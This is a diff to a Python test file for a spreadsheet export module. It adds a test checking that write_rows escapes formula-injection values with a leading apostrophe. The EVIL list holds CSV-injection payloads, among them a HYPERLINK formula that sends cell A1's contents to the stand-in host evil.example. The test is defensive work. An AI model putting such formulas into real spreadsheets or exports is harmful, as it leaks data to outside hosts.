@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as texts
 
-from miyabi_dw.common.spreadsheet import FORMULA, csv_text
+from miyabi_dw.common.spreadsheet import FORMULA, csv_text, write_rows
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"see")', "@SUM(1+1)", "+1", "-2+3", "\t=1+1", "\r=1", " =1", "＝1", "'=1", "''",
@@ -29,6 +29,16 @@ def test_c6_a_title_is_no_formula_and_comes_back(title: str) -> None:
     (row,) = csv.DictReader(io.StringIO(written, newline=""))
     assert row["title"][0] == "'"
     assert read_back(written) == [title]
+
+
+@pytest.mark.parametrize("title", EVIL)
+def test_c6_rows_without_a_table_are_written_alike(title: str) -> None:
+    rows = [{"title": title, "n": Decimal("-1.5"), "none": None}, {"title": "plain", "n": -2, "none": None}]
+    file = io.StringIO(newline="")
+    write_rows(file, rows)
+    assert file.getvalue().splitlines()[-1] == "plain,-2,"
+    assert read_back(file.getvalue()) == read_back(csv_text(pandas.DataFrame(rows))) == [title, "plain"]
+    assert file.getvalue().split(",-1.5")[0].removeprefix("title,n,none\r\n").lstrip('"').startswith("'")
 
 
 @given(texts.text(texts.characters(exclude_categories=["Cs"], exclude_characters="\0")))
